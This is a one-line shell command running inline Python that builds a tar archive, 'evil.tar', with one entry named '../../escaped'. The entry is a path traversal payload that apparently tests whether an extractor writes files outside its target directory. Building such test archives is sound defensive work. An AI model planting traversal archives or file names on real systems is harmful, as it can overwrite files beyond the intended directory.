python3 -c "
import io, tarfile
t = tarfile.open(\"evil.tar\", \"w\")
i = tarfile.TarInfo(\"../../escaped\")
i.size = 2
t.addfile(i, io.BytesIO(b\"x\\n\"))
t.close()"
